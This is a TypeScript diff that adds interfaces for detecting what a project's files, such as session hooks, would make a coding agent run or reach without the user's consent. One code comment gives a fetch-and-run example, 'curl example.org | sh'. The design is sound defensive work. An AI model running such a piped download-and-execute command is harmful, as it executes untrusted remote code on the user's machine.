@@ -35,6 +35,7 @@ export interface Launch {
   token: string;
   model: string | null;
   permissionMode: string;
+  /** it gets no MCP server but cord's, and nothing of the project's settings */
   isolate: boolean;
   budgetUsd: number | null;
   sessionId: string;
@@ -55,6 +56,21 @@ export interface Command {
   keepStdinOpen: boolean;
 }
 
+/** One thing that a file of a project makes an agent do. Both are the project's text, so not safe for a terminal. */
+export interface Demand {
+  /** relative to the folder that agents work in */
+  file: string;
+  /** such as: the hook SessionStart runs curl example.org | sh */
+  does: string;
+}
+
+/** What a project makes an agent do beyond its work, without anybody's having agreed to it. */
+export interface Untrusted {
+  demands: readonly Demand[];
+  /** of the files that want it, so that a change in them is seen */
+  digest: string;
+}
+
 /** A kind of agent: one file each, listed in agents.ts. */
 export interface Agent {
   name: string;
@@ -63,6 +79,8 @@ export interface Agent {
   vital: readonly string[];
   /** The program's path. CordError with the mend if it is not installed. */
   locate(env: Record<string, string | undefined>): string;
+  /** What the project of a folder would have it run, reach or be allowed that the user has not agreed to; null: nothing. */
+  untrusted(folder: string, env: Record<string, string | undefined>): Untrusted | null;
   /** Writes its config file into launch.dir, which exists. CordError if it is not installed. */
   command(launch: Launch): Command;
   /** The stdin bytes that tell a running agent something; null: it cannot be told. */
